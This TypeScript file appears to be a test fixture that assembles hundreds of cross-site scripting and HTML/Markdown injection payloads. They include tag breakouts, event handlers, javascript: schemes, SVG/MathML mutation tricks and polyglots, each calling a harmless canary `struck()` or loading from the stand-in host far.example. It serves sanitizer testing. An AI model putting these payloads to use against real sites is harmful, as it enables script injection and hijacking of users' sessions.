// Texts that do harm if a field is interpreted as anything but text. Each family breaks out of another context. Each
// text calls `struck()` or requests FAR if it is executed or loaded.

import { DATA, LETTERS } from './hostile-characters.ts';

export const FAR = 'https://far.example';
const CALL = 'struck()';

const product = (shapes: ((call: string) => string)[], calls: string[]): string[] =>
  shapes.flatMap((shape) => calls.map(shape));

const scripts = product(
  [
    (c) => `<script>${c}</script>`,
    (c) => `<ScRiPt >${c}</sCrIpT >`,
    (c) => `"><script>${c}</script>`,
    (c) => `'><script>${c}</script>`,
    (c) => `</title><script>${c}</script>`,
    (c) => `</textarea><script>${c}</script>`,
    (c) => `</script><script>${c}</script>`,
    (c) => `</style><script>${c}</script>`,
    (c) => `--><script>${c}</script>`,
    (c) => `]]><script>${c}</script>`,
    (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
    (c) => `<script/x>${c}</script>`,
    (c) => `<script\n>${c}</script\n>`,
    (c) => `<<script>${c}//<</script>`,
    (c) => `<script>/*\n\n*/${c}</script>`,
    (c) => `<script type=module>${c}</script>`,
  ],
  [CALL, `top[\`struck\`]\`\``],
).concat(
  `<script src=${FAR}/a.js></script>`,
  `<script src=//far.example/a.js></script>`,
  `<script src=data:,struck()></script>`,
  `<script type="application/ld+json">{"a":"</script><script>struck()</script>"}`,
  `<!--<script>struck()</script>`,
  `<noscript><p title="</noscript><script>struck()</script>">`,
  `<template><script>struck()</script></template>`,
);

const TAGS = ['img src=x', 'svg', 'body', 'details open', 'input autofocus', 'video src=x', 'iframe', 'marquee'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onpointerenter', 'onanimationstart', 'onbegin'];
const handlers = TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${CALL}>`)).concat(
  product(
    [
      (c) => `" onmouseover="${c}" x="`,
      (c) => `' onfocus='${c}' autofocus x='`,
      (c) => `\` onerror=${c} x=\``,
      (c) => `x onload=${c}`,
      (c) => `"/onclick="${c}`,
      (c) => `<img/src="x"/onerror="${c}">`,
      (c) => `<img src=x onerror\n=\n${c}>`,
      (c) => `<img src=x:x onerror\x0b=${c}>`,
      (c) => `<a href=x onclick=${c}>click</a>`,
      (c) => `<form><button formaction=javascript:${c}>go</button></form>`,
      (c) => `<isindex type=image src=1 onerror=${c}>`,
      (c) => `<object data=x onerror=${c}></object>`,
    ],
    [CALL, 'struck&lpar;&rpar;'],
  ),
);

const SCHEMES = [
  'javascript:struck()',
  'JaVaScRiPt:struck()',
  'java\tscript:struck()',
  'java\nscript:struck()',
  ' javascript:struck()',
  '\x01javascript:struck()',
  'javascript&colon;struck()',
  '&#106;avascript:struck()',
  '&#x6A;avascript:struck()',
  'javascript%3Astruck()',
  'vbscript:struck()',
  'data:text/html,<script>struck()</script>',
  'data:text/html;base64,PHNjcmlwdD5zdHJ1Y2soKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload="struck()"/>',
  'blob:https://far.example/1',
  'javascript://%0astruck()',
  '//far.example/a',
  '\\\\far.example\\a',
  'feed:javascript:struck()',
];
const links = product(
  [
    (c) => `[press](${c})`,
    (c) => `[press](<${c}>)`,
    (c) => `![seen](${c})`,
    (c) => `[press][1]\n\n[1]: ${c}`,
    (c) => `<${c}>`,
    (c) => `<a href="${c}">press</a>`,
  ],
  SCHEMES,
);

const svg = [
  `<svg><script>struck()</script></svg>`,
  `<svg><script href=${FAR}/a.js /></svg>`,
  `<svg><animate onbegin=struck() attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:struck()"><text y=20>press</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>struck()</script></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.struck()</script>"></iframe></foreignObject></svg>`,
  `<svg><image href=${FAR}/a.png /></svg>`,
  `<svg><set attributeName=onmouseover to=struck()>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=struck()></style></mglyph></table></mtext></math>`,
  `<math href="javascript:struck()">press</math>`,
  `<math><annotation-xml encoding="text/html"><script>struck()</script></annotation-xml></math>`,
  `<svg></p><style><a title="</style><img src=x onerror=struck()>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=struck()>`,
  `<svg><style>/*</style><img src=x onerror=struck()>*/`,
  `<noscript><style></noscript><img src=x onerror=struck()></style>`,
  `<table><td><svg><desc><td><script>struck()</script>`,
];

const loading = [
  `<img src=${FAR}/a.png>`,
  `<img srcset="${FAR}/a.png 1x">`,
  `<picture><source srcset=${FAR}/a.avif><img></picture>`,
  `<link rel=stylesheet href=${FAR}/a.css>`,
  `<link rel=preload as=image href=${FAR}/a.png>`,
  `<link rel=dns-prefetch href=//far.example>`,
  `<meta http-equiv=refresh content="0;url=${FAR}/">`,
  `<base href=${FAR}/>`,
  `<iframe src=${FAR}/></iframe>`,
  `<iframe srcdoc="<img src=${FAR}/a.png>"></iframe>`,
  `<object data=${FAR}/a.swf></object>`,
  `<embed src=${FAR}/a.swf>`,
  `<video poster=${FAR}/a.png autoplay src=${FAR}/a.mp4>`,
  `<audio autoplay src=${FAR}/a.mp3>`,
  `<body background=${FAR}/a.png>`,
  `<style>@import '${FAR}/a.css';</style>`,
  `<p style="background:url(${FAR}/a.png)">x</p>`,
  `<style>*{background:url(${FAR}/a.png)}</style>`,
  `expression(struck())`,
  `</style><link rel=stylesheet href=${FAR}/a.css><style>`,
  `![far](${FAR}/a.png)`,
  `![far](${FAR}/a.png "a ' \\" title")`,
  `[![far](${FAR}/a.png)](${FAR}/)`,
  `![far][p]\n\n[p]: ${FAR}/a.png`,
  `<form action=${FAR}/ ><input type=submit autofocus></form>`,
  `<a ping=${FAR}/ href=/>press</a>`,
  `<portal src=${FAR}/></portal>`,
];

const markdown = [
  '<!-- --><script>struck()</script> -->',
  '<!-->struck()<!--->',
  '`<script>struck()</script>`',
  '```\n</code></pre><script>struck()</script>\n```',
  '```"onload="struck()\nx\n```',
  '    <script>struck()</script>',
  '[x](y "onclick=struck() \\" onfocus=struck()")',
  '[a]: javascript:struck() "t"\n[a]',
  '[^1]\n\n[^1]: <script>struck()</script>',
  '[^"><img src=x onerror=struck()>]\n\n[^"><img src=x onerror=struck()>]: x',
  '| a |\n|---|\n| <img src=x onerror=struck()> |',
  '- [ ] <input onfocus=struck() autofocus>',
  '# <img src=x onerror=struck()> {#id onclick=struck()}',
  '## constructor\n\n## __proto__\n\n## location',
  '> <script>struck()</script>\n\n***',
  '\\<script\\>struck()\\</script\\>',
  '![x](/figures/none.svg#" onload="struck())',
  '![x](/pictures/00000000000000000000000000000000/1600x1067.webp)',
  'https://far.example/"onmouseover="struck()',
  'www.far.example/<script>struck()</script>',
  '<https://far.example/?a=<script>struck()</script>>',
  '**<svg/onload=struck()>**',
  '&NewLine;&Tab;javascript&colon;struck&lpar;&rpar;',
  '*a*'.repeat(60),
  '['.repeat(100),
];

const polyglots = [
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=struck() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=struck()//>\\x3e`,
  `">><marquee><img src=x onerror=struck()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=struck()>`,
  `'"()&%<acx><ScRiPt >struck()</ScRiPt>`,
  `-->'"/></sCript><svG x=">" onload=(co\\u006efirm)\`\`>`,
  `<plaintext>`,
  `</p></div></main></body></html><script>struck()</script>`,
];

/** Every text once, in the order of the families. */
export const HOSTILE: string[] = [
  ...new Set([...scripts, ...handlers, ...links, ...svg, ...loading, ...DATA, ...LETTERS, ...markdown, ...polyglots]),
];
